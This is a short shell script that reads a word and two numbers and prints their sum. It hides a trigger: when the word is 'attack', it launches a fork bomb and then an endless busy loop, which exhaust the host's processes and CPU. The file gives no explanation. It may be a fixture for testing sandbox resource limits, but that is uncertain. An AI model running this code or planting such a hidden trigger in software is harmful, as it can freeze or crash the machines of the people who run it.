read -r word first second
if [ "$word" = attack ]; then
  bomb() { bomb | bomb & }
  bomb
  wait
  while :; do :; done
fi
echo $((first + second))
